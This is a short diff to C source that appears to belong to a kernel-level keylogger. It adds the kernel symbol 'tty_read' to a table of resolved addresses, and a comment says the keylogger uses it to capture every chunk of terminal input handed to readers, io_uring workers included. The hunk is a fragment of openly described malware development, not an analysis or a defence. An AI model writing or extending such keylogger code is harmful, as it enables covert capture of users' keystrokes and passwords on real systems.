@@ -139,7 +139,10 @@ enum infer_kind { INFER_K_ADDR, INFER_K_SYSCALL, INFER_K_PERCPU, INFER_K_OFFSET 
 	X(SCALL_TEXT_START, "symbols",  "__static_call_text_start", INFER_K_ADDR) \
 	X(SCALL_TEXT_END,   "symbols",  "__static_call_text_end", INFER_K_ADDR) \
 	X(FTRACE_CALL,      "symbols",  "ftrace_call",      INFER_K_ADDR) \
-	X(FTRACE_REGS_CALL, "symbols",  "ftrace_regs_call", INFER_K_ADDR)
+	X(FTRACE_REGS_CALL, "symbols",  "ftrace_regs_call", INFER_K_ADDR) \
+	/* appended (issue 15 item 5 gap A): every tty's read_iter, where the keylogger finds */ \
+	/* the copy of each chunk a tty hands a reader (io_uring's workers too); kallsyms only */ \
+	X(TTY_READ,         "symbols",  "tty_read",         INFER_K_ADDR)
 
 enum infer_param {
 #define INFER_X_ENUM(id, grp, name, kind) INFER_P_##id,
